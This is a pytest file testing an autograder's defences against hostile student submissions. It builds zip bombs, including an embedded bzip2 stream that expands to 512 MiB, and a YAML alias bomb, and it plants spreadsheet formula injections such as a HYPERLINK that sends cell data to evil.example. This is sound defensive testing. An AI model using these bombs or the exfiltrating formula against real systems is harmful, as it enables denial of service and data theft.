"""Hostile files and metadata: a submission read within one budget, a Gradescope export's
metadata read safely, gradebooks safe to open in a spreadsheet, a stored result reused only for
its own owner.

Each attack also runs against what it defeats (the control): the reading of
tests/controls/unbounded_locate.py, PyYAML's plain `safe_load`, the cells as they were before
they are neutralised, the fingerprints without the owner. Memory is the peak resident size of
the grading process, read with `getrusage(RUSAGE_CHILDREN)` in a parent that starts only it.
"""

from __future__ import annotations

import base64
import csv
import io
import json
import resource
import struct
import subprocess
import sys
import textwrap
import time
import zlib
from pathlib import Path

import jsonschema
import pytest
import toy_assignment as toy

from grader import sandbox
from grader.app import batch
from grader.app.batch import grade_all, summary, write_csv
from grader.course import fingerprint, registry
from grader.course.content import solution_dir
from grader.engine import locate as locate_module
from grader.engine.locate import MAX_FILE_BYTES, locate
from grader.reports import gradebook
from grader.reports.results_json import SCHEMA

CONTROLS = Path(__file__).parent / "controls"
A1 = "a1_word_vectors"
SOLUTION = solution_dir(A1)
WANTED = ("word_vectors.py", "answers.toml")
MiB = 1 << 20
# The grader's own peak while grading a1 from a zip: 41-42 MiB measured on the development
# machine (its interpreter, numpy, the suite); the bound leaves room for other builds of numpy.
GRADER_PEAK_BOUND = 160 * MiB
# A bzip2 stream of 512 MiB of zeros (402 bytes): one read step of zipfile's own reader
# expands it whole.
BZIP2_512_MIB_OF_ZEROS = base64.b64decode(
    "QlpoOTFBWSZTWQ4J4t8BX45AAMAAAAggADCATUZCoCWpCoCXMUFZJlNZDgni3wFfjkAAwAAACCAAMIBNRkKgJakK"
    "gJcxQVkmU1kOCeLfAV+OQADAAAAIIAAwgE1GQqAlqQqAlzFBWSZTWQ4J4t8BX45AAMAAAAggADCATUZCoCWpCoCX"
    "MUFZJlNZDgni3wFfjkAAwAAACCAAMIBNRkKgJakKgJcxQVkmU1kOCeLfAV+OQADAAAAIIAAwgE1GQqAlqQqAlzFB"
    "WSZTWQ4J4t8BX45AAMAAAAggADCATUZCoCWpCoCXMUFZJlNZDgni3wFfjkAAwAAACCAAMIBNRkKgJakKgJcxQVkm"
    "U1kOCeLfAV+OQADAAAAIIAAwgE1GQqAlqQqAlzFBWSZTWQ4J4t8BX45AAMAAAAggADCATUZCoCWpCoCXMUFZJlNZ"
    "Dgni3wFfjkAAwAAACCAAMIBNRkKgJakKgJcxQVkmU1kCGMe7APTw4ADAAAAEAAggADDMCapplUFIbVKgpDxdyRTh"
    "QkIPy1I4"
)
_STORED, _DEFLATED, _BZIP2 = 0, 8, 12

needs_isolation = pytest.mark.skipif(
    not sandbox.can_isolate(), reason="hostile submissions are graded only in the namespace sandbox"
)


# --------------------------------------------------------------------------- building zips


def raw_zip(members: list[tuple[str, bytes, int, int, int]]) -> bytes:
    """A zip built by hand, one (name, compressed bytes, method, crc, declared size) per member,
    so that a member may declare a size its bytes do not have."""
    out, central = bytearray(), bytearray()
    for name, data, method, crc, size in members:
        encoded = name.encode()
        offset = len(out)
        out += struct.pack(
            "<4s5H3L2H", b"PK\x03\x04", 20, 0, method, 0, 0, crc, len(data), size, len(encoded), 0
        )
        out += encoded + data
        central += struct.pack(
            "<4s6H3L5H2L",
            *(b"PK\x01\x02", 20, 20, 0, method, 0, 0, crc, len(data), size, len(encoded)),
            *(0, 0, 0, 0, 0, offset),
        )
        central += encoded
    count = min(len(members), 0xFFFF)
    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, count, count, len(central), len(out), 0)
    return bytes(out + central + end)


def deflated(data: bytes) -> bytes:
    squeeze = zlib.compressobj(9, zlib.DEFLATED, -15)
    return squeeze.compress(data) + squeeze.flush()


def plain(name: str, data: bytes) -> tuple[str, bytes, int, int, int]:
    return (name, deflated(data), _DEFLATED, zlib.crc32(data), len(data))


def zeros_member(name: str, size: int) -> tuple[str, bytes, int, int, int]:
    """`size` zero bytes, deflated (1000:1)."""
    block = b"\0" * MiB
    squeeze = zlib.compressobj(9, zlib.DEFLATED, -15)
    body = b"".join(squeeze.compress(block) for _ in range(size // MiB)) + squeeze.flush()
    crc = 0
    for _ in range(size // MiB):
        crc = zlib.crc32(block, crc)
    return (name, body, _DEFLATED, crc, size)


def solution_members() -> list[tuple[str, bytes, int, int, int]]:
    return [plain(n, (SOLUTION / n).read_bytes()) for n in WANTED]


# --------------------------------------------------------------------------- measuring

# Grades one submission with the CLI; with a control file, its `locate` reads the submission.
GRADE = textwrap.dedent("""
    import importlib.util, sys
    submission, results, control = sys.argv[1], sys.argv[2], sys.argv[3]
    if control:
        spec = importlib.util.spec_from_file_location("control_locate", control)
        module = sys.modules["control_locate"] = importlib.util.module_from_spec(spec)
        spec.loader.exec_module(module)
        import grader.engine.grade
        grader.engine.grade.locate = module.locate
    from grader.app.cli import main
    sys.exit(main(["grade", submission, "-a", "a1", "--results", results, "--format", "json"]))
""")

# Runs its arguments as one child and prints that child's peak resident size (bytes).
PEAK = textwrap.dedent("""
    import resource, subprocess, sys
    done = subprocess.run(sys.argv[1:], capture_output=True, text=True)
    sys.stderr.write(done.stderr[-4000:])
    peak = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss * 1024
    print(f"{done.returncode} {peak}")
""")


def peak_of(argv: list[str], timeout: float = 300) -> tuple[int, int, str]:
    """(exit status, peak resident bytes, its stderr) of running `argv` as a process of its own."""
    done = subprocess.run(
        [sys.executable, "-c", PEAK, *argv], capture_output=True, text=True, timeout=timeout
    )
    assert done.returncode == 0, done.stderr
    status, peak = done.stdout.split()
    return int(status), int(peak), done.stderr


def grade_measured(submission: Path, out: Path, control: bool = False) -> tuple[int, dict | None]:
    """The grader's peak resident bytes and the results it wrote (None when it wrote none)."""
    locate_file = str(CONTROLS / "unbounded_locate.py") if control else ""
    status, peak, err = peak_of(
        [sys.executable, "-c", GRADE, str(submission), str(out), locate_file]
    )
    assert status in (0, 1), err
    return peak, json.loads(out.read_text()) if out.is_file() else None


LOCATE = textwrap.dedent("""
    import importlib.util, json, sys
    spec = importlib.util.spec_from_file_location("reader", sys.argv[1])
    module = sys.modules["reader"] = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    try:
        found = module.locate(sys.argv[2], ("word_vectors.py", "answers.toml"))
        print(json.dumps({"files": sorted(found.files), "notes": found.notes}), file=sys.stderr)
    except Exception as exc:
        print(json.dumps({"error": f"{type(exc).__name__}: {exc}"}), file=sys.stderr)
""")


def locate_measured(reader: Path, submission: Path) -> int:
    """The peak resident bytes of a process that imports `reader` and locates `submission`."""
    status, peak, err = peak_of([sys.executable, "-c", LOCATE, str(reader), str(submission)])
    assert status == 0, err
    return peak


def scores(results: dict, assignment_id: str = A1) -> dict[str, float]:
    """The score of each of the assignment's questions in a results file."""
    ids = {q.id for q in registry.load(assignment_id).questions}
    return {
        t["extra_data"]["question"]: t["score"]
        for t in results["tests"]
        if t.get("extra_data", {}).get("question") in ids
    }


def full_marks(assignment_id: str = A1) -> dict[str, float]:
    return {q.id: float(q.points) for q in registry.load(assignment_id).questions}


# --------------------------------------------------------------------------- one read budget


@pytest.mark.slow  # grades or measures in processes of their own
@needs_isolation
def test_decoy_notebooks_cost_the_grader_no_memory_and_the_code_keeps_its_marks(tmp_path):
    """Four 150 MiB notebooks (150 KiB each in the zip) beside the right code: the grader reads
    none of them (only `<stem>.ipynb` is ever graded) and the code keeps full marks. The
    control reads each whole: the grader's peak grows past 600 MiB."""
    decoys = [zeros_member(f"scratch_{i}.ipynb", 150 * MiB) for i in range(4)]
    submission = tmp_path / "decoys.zip"
    submission.write_bytes(raw_zip(solution_members() + decoys))
    assert submission.stat().st_size < 1 * MiB

    peak, results = grade_measured(submission, tmp_path / "results.json")
    control_peak, _ = grade_measured(submission, tmp_path / "control.json", control=True)

    print(f"grader's peak {peak / MiB:.0f} MiB; the control's {control_peak / MiB:.0f} MiB")
    assert results is not None
    jsonschema.validate(results, SCHEMA)
    assert scores(results) == full_marks()
    assert peak < GRADER_PEAK_BOUND, f"{peak / MiB:.0f} MiB"
    assert control_peak > peak + 4 * 150 * MiB, (peak / MiB, control_peak / MiB)


@pytest.mark.slow  # grades or measures in processes of their own
@needs_isolation
def test_a_code_file_that_lies_about_its_size_costs_only_the_code_questions(tmp_path):
    """`word_vectors.py` declares 40 bytes and holds 512 MiB of bzip2'd zeros (402 bytes): it is
    stopped at its 2 MiB cap, named, and the written answers keep their marks. The control
    expands the whole stream in one step, keeps the declared 40 bytes, meets a checksum that
    does not match, and loses the whole zip."""
    answers = SOLUTION / "answers.toml"
    lie = ("word_vectors.py", BZIP2_512_MIB_OF_ZEROS, _BZIP2, zlib.crc32(b"x = 1\n"), 40)
    submission = tmp_path / "lie.zip"
    submission.write_bytes(raw_zip([lie, plain("answers.toml", answers.read_bytes())]))

    peak, results = grade_measured(submission, tmp_path / "results.json")
    control_peak, control = grade_measured(submission, tmp_path / "control.json", control=True)

    print(f"grader's peak {peak / MiB:.0f} MiB; the control's {control_peak / MiB:.0f} MiB")
    assert results is not None and control is not None
    jsonschema.validate(results, SCHEMA)
    assignment = registry.load(A1)
    written = {q.id for q in assignment.questions if q.kind != "code"}
    got = scores(results)
    assert {q: got[q] for q in written} == {q: full_marks()[q] for q in written}
    assert all(got[q.id] == 0 for q in assignment.questions if q.kind == "code")
    assert f"`word_vectors.py` skipped: larger than {MAX_FILE_BYTES >> 20} MiB" in json.dumps(
        results
    )
    assert peak < GRADER_PEAK_BOUND, f"{peak / MiB:.0f} MiB"
    assert sum(scores(control).values()) == 0  # the control: nothing of the zip was graded
    assert control_peak > peak + 500 * MiB  # ... after expanding the 512 MiB in one step


@pytest.mark.slow  # grades or measures in processes of their own
def test_a_member_is_decompressed_in_bounded_steps(tmp_path):
    """The same lying member read alone: locate's peak stays within 64 MiB of a bare
    interpreter's; zipfile's own reader, asked for a single byte, expands all 512 MiB."""
    submission = tmp_path / "bomb.zip"
    member = ("word_vectors.py", BZIP2_512_MIB_OF_ZEROS, _BZIP2, 0, 1 << 30)
    submission.write_bytes(raw_zip([member]))
    small = submission.with_name("small.zip")
    small.write_bytes(raw_zip([("word_vectors.py", BZIP2_512_MIB_OF_ZEROS, _BZIP2, 0, 40)]))
    reader = Path(locate_module.__file__)
    zipfile_reader = tmp_path / "zipfile_reader.py"
    zipfile_reader.write_text(
        "import zipfile\n"
        "def locate(path, wanted):\n"
        "    with zipfile.ZipFile(path) as zf, zf.open('word_vectors.py') as fh:\n"
        "        fh.read(1)\n"
    )
    baseline = locate_measured(reader, tmp_path / "missing.zip")
    assert locate_measured(reader, submission) < baseline + 64 * MiB  # refused by its declared size
    assert locate_measured(reader, small) < baseline + 64 * MiB  # stopped past its cap
    assert locate_measured(zipfile_reader, submission) > baseline + 500 * MiB  # the control


@pytest.mark.slow  # grades or measures in processes of their own
def test_many_entries_are_not_parsed_past_the_caps(tmp_path):
    """200,000 empty entries after the solution's files (11 MB of zip): the walk stops at the
    member cap, the files are found, and a note says so; the control parses every entry first."""
    junk = [(f"f{i}.txt", b"", _STORED, 0, 0) for i in range(200_000)]
    submission = tmp_path / "many.zip"
    submission.write_bytes(raw_zip(solution_members() + junk))
    started = time.monotonic()
    found = locate(submission, WANTED)
    took = time.monotonic() - started
    assert set(WANTED) <= set(found.files)
    assert any("more than 2,000 files" in n for n in found.notes)
    assert took < 2.0
    reader = Path(locate_module.__file__)
    peak = locate_measured(reader, submission)
    control = locate_measured(CONTROLS / "unbounded_locate.py", submission)
    assert control > peak + 50 * MiB, (peak / MiB, control / MiB)


def test_notebooks_count_toward_the_one_budget_and_the_needed_files_come_first(
    tmp_path, monkeypatch
):
    """With a 1 MiB budget: the code file's notebook (700 KiB) and answers.toml are read first,
    the student's other modules fill what is left and the one past it is named; a notebook
    that is not the code file's is never opened."""
    monkeypatch.setattr(locate_module, "MAX_TOTAL_BYTES", 1 * MiB)
    folder = tmp_path / "sub"
    folder.mkdir()
    (folder / "word_vectors.ipynb").write_bytes(b" " * (700 << 10))
    (folder / "answers.toml").write_text("a = 1\n")
    for name in ("a_helper.py", "b_helper.py"):
        (folder / name).write_bytes(b"#" * (200 << 10))
    (folder / "other.ipynb").write_bytes(b" " * (2 * MiB))
    opened: list[str] = []
    real = locate_module._read_file
    monkeypatch.setattr(
        locate_module,
        "_read_file",
        lambda path, limit: opened.append(path.name) or real(path, limit),
    )
    found = locate(folder, WANTED)
    assert opened == ["answers.toml", "word_vectors.ipynb", "a_helper.py"]  # b: by its size
    assert set(found.files) == {"answers.toml", "word_vectors.ipynb", "a_helper.py"}
    assert found.bytes_read <= 1 * MiB
    assert found.notes == [
        "`b_helper.py` skipped: the submission's files together are larger than 1 MiB"
    ]


def test_an_oversized_notebook_is_named_as_the_reason_the_code_is_missing(tmp_path, monkeypatch):
    monkeypatch.setattr(locate_module, "MAX_NOTEBOOK_BYTES", 1 * MiB)
    submission = tmp_path / "nb.zip"
    submission.write_bytes(raw_zip([zeros_member("word_vectors.ipynb", 2 * MiB)]))
    found = locate(submission, WANTED)
    assert "word_vectors.ipynb" not in found.files
    assert found.problems["word_vectors.py"].startswith(
        "`word_vectors.ipynb` skipped: larger than 1 MiB"
    )


# --------------------------------------------------------------------------- gradebooks


def _export_root(tmp_path: Path, names: dict[str, dict]) -> Path:
    """Toy submissions in folders, with an export's submission_metadata.yml naming their owners."""
    root = tmp_path / "class"
    for folder in names:
        (root / folder).mkdir(parents=True)
        (root / folder / "toy.py").write_text(toy.NUMPY_SOLUTION)
    write_metadata(root, names)
    return root


def write_metadata(root: Path, names: dict[str, dict]) -> None:
    lines = []
    for folder, person in names.items():
        lines += [f"{json.dumps(folder)}:", "  :submitters:"]
        first = True
        for key, value in person.items():
            lines.append(f"  {'- ' if first else '  '}{key}: {json.dumps(value)}")
            first = False
    (root / "submission_metadata.yml").write_text("\n".join(lines) + "\n")


@pytest.fixture
def quick(monkeypatch):
    """Toy submissions graded with short limits; the catalog and reference as they are now."""
    limits = sandbox.Limits(call_seconds=2.0, submission_seconds=30.0)
    real = batch.grade_submission
    monkeypatch.setattr(
        batch, "grade_submission", lambda p, a, **kw: real(p, a, **{**kw, "limits": limits})
    )
    for name in ("catalog_fingerprint", "reference_fingerprint"):
        value = getattr(fingerprint, name)()
        monkeypatch.setattr(fingerprint, name, lambda value=value: value)


HOSTILE_PEOPLE = {
    '=HYPERLINK("evil.example","Mallory")': {
        ":name": '=HYPERLINK("http://evil.example/steal?d="&F3&F2,"Mallory")',
        ":email": "mallory@uni.edu",
        ":sid": "=1+2",
    },
    "tab": {":name": "\t=1+2", ":email": "@SUM(A1)@uni.edu", ":sid": "-2+3"},
    "plain": {":name": "Ada Lovelace", ":email": "ada@uni.edu", ":sid": "-17"},
}


def test_formula_cells_are_neutralised_in_every_gradebook(tmp_path, quick):
    root = _export_root(tmp_path, HOSTILE_PEOPLE)
    graded = grade_all(root, toy.ASSIGNMENT, jobs=2, results_dir=tmp_path / "res", progress=False)
    rows = gradebook.rows_of(graded)
    for fmt in gradebook.FORMATS:
        out = tmp_path / f"{fmt}.csv"
        write_csv(out, toy.ASSIGNMENT, graded, fmt=fmt)
        cells = [c for row in csv.reader(io.StringIO(out.read_text())) for c in row]
        raw = [c for row in gradebook._cells(fmt, toy.ASSIGNMENT, rows) for c in row]
        dangerous = [c for c in raw if c.lstrip(" ").startswith(gradebook.FORMULA_STARTS)]
        numbers = [c for c in dangerous if gradebook._NUMBER.fullmatch(c)]
        assert [c for c in dangerous if c not in numbers], (
            fmt
        )  # the control: formulas in the raw cells
        for cell in cells:
            assert not cell.lstrip(" ").startswith(gradebook.FORMULA_STARTS) or cell in numbers, (
                cell
            )
        assert {"'" + c for c in dangerous if c not in numbers} <= set(cells)
    seqgrade = list(csv.DictReader(io.StringIO((tmp_path / "seqgrade.csv").read_text())))
    assert {r["sid"] for r in seqgrade} == {"'=1+2", "'-2+3", "-17"}  # a negative number stays
    assert {r["total"] for r in seqgrade} == {"10"}


# --------------------------------------------------------------------------- metadata


def alias_bomb(levels: int = 9) -> str:
    """Nine anchors of nine aliases each: 9**9 values once expanded, 2 KB as written."""
    lines = ['l0: &a0 ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]']
    lines += [f"l{i}: &a{i} [" + ", ".join([f"*a{i - 1}"] * 9) + "]" for i in range(1, levels + 1)]
    return "\n".join(lines) + "\n"


@pytest.mark.slow  # grades or measures in processes of their own
def test_an_alias_bomb_in_the_metadata_is_reported_and_the_batch_writes_its_gradebook(
    tmp_path, quick, capsys
):
    root = _export_root(tmp_path, {"ada": {":email": "ada@uni.edu"}, "bob": {":email": "b@u.edu"}})
    bomb = alias_bomb() + "ada:\n  :submitters:\n  - :email: ada@uni.edu\n    :name: *a9\n"
    (root / "submission_metadata.yml").write_text(bomb)
    assert len(bomb) < 4096
    started = time.monotonic()
    graded = grade_all(root, toy.ASSIGNMENT, jobs=2, results_dir=tmp_path / "res", progress=False)
    write_csv(tmp_path / "g.csv", toy.ASSIGNMENT, graded)
    took = time.monotonic() - started
    err = capsys.readouterr().err
    assert "submission_metadata.yml could not be read" in err and "aliases" in err
    rows = list(csv.DictReader(io.StringIO((tmp_path / "g.csv").read_text())))
    assert {r["submission"]: r["variant_key"] for r in rows} == {"ada": "ada", "bob": "bob"}
    assert took < 60

    control = subprocess.run(
        [
            sys.executable,
            "-c",
            "import sys, yaml; data = yaml.safe_load(open(sys.argv[1]).read()); "
            "str(data['ada'][':submitters'][0][':name'])",  # what reading a name did
            str(root / "submission_metadata.yml"),
        ],
        capture_output=True,
        timeout=120,
        # 256 MiB: enough for Python and yaml, reached by the expansion in 3 s (512: 5 s)
        preexec_fn=lambda: resource.setrlimit(resource.RLIMIT_AS, (256 << 20, 256 << 20)),
    )
    assert control.returncode != 0 and b"MemoryError" in control.stderr


def test_aliases_that_expand_to_little_are_read_as_before(tmp_path):
    path = tmp_path / "submission_metadata.yml"
    path.write_text(
        "defaults: &d\n  :sid: '123'\n"
        "bob:\n  :submitters:\n  - <<: *d\n    :name: Bob\n    :email: bob@uni.edu\n"
        "  - :name: [not, a, name]\n    :email: cy@uni.edu\n"
    )
    meta = batch._gradescope_metadata(tmp_path)
    assert meta["bob"]["id"] == "123" and meta["bob"]["name"] == "Bob"
    assert meta["bob"]["submitters"][1] == {":email": "cy@uni.edu"}  # only plain values kept


# --------------------------------------------------------------------------- owner fingerprint


def _csv_rows(path: Path) -> dict[str, dict[str, str]]:
    return {r["submission"]: r for r in csv.DictReader(io.StringIO(path.read_text()))}


def test_a_change_of_owner_regrades_and_the_summary_says_why(tmp_path, quick, monkeypatch):
    """The export moves folder s1 from alice to bob. The control (fingerprints that leave the
    owner out) reuses alice's result under bob's email; the grader regrades it for bob."""
    people = {"s1": {":email": "alice@uni.edu"}, "s2": {":email": "cy@uni.edu"}}
    root = _export_root(tmp_path, people)
    ours, control = tmp_path / "res", tmp_path / "control_res"

    def run(results: Path) -> list:
        return grade_all(root, toy.ASSIGNMENT, jobs=2, results_dir=results, progress=False)

    def without_owner(results: Path) -> list:
        with monkeypatch.context() as m:
            m.setattr(fingerprint, "owner_fingerprint", lambda key, members=(): "")
            return run(results)

    run(ours)
    without_owner(control)
    write_metadata(root, {**people, "s1": {":email": "bob@uni.edu"}})

    graded = without_owner(control)
    assert summary(graded) == "2 reused, 0 regraded"
    write_csv(tmp_path / "control.csv", toy.ASSIGNMENT, graded)
    row = _csv_rows(tmp_path / "control.csv")["s1"]
    assert (row["email"], row["variant_key"]) == ("bob@uni.edu", "alice@uni.edu")  # the breach

    graded = run(ours)
    assert {s.name: (s.outcome.kind, s.outcome.why) for s, _ in graded} == {
        "s1": ("regraded", ("owner",)),
        "s2": ("reused", ()),
    }
    assert summary(graded) == "1 reused, 1 regraded (owner changed: 1)"
    write_csv(tmp_path / "g.csv", toy.ASSIGNMENT, graded)
    row = _csv_rows(tmp_path / "g.csv")["s1"]
    assert (row["email"], row["variant_key"]) == ("bob@uni.edu", "bob@uni.edu")
    assert json.loads((ours / "s1.json").read_text())["extra_data"]["student"] == "bob@uni.edu"


def test_a_change_of_owner_regrades_the_whole_result_even_with_only(tmp_path, quick):
    root = _export_root(tmp_path, {"s1": {":email": "alice@uni.edu"}})
    results = tmp_path / "res"
    grade_all(root, toy.ASSIGNMENT, jobs=1, results_dir=results, progress=False)
    write_metadata(root, {"s1": {":email": "bob@uni.edu"}})
    graded = grade_all(
        root, toy.ASSIGNMENT, jobs=1, results_dir=results, progress=False, only=("toy.linear",)
    )
    assert [(s.outcome.kind, s.outcome.why) for s, _ in graded] == [("regraded", ("owner",))]
    stored = json.loads((results / "s1.json").read_text())
    assert (
        stored["extra_data"]["student"] == "bob@uni.edu" and "regraded" not in stored["extra_data"]
    )


def test_group_members_and_the_roster_field_belong_to_the_owner():
    from grader.course import variants

    alice = variants.variant_key("email", users=[{":email": "alice@uni.edu"}])
    by_sid = variants.variant_key(
        "sid", users=[{":email": "alice@uni.edu", ":sid": "alice@uni.edu"}]
    )
    alone = fingerprint.owner_fingerprint(alice, [{":email": "alice@uni.edu"}])
    group = fingerprint.owner_fingerprint(
        alice, [{":email": "alice@uni.edu"}, {":email": "b@u.edu"}]
    )
    assert len({alone, group, fingerprint.owner_fingerprint(by_sid, [])}) == 3
    assert alone == fingerprint.owner_fingerprint(alice, [{":email": " Alice@uni.edu "}])
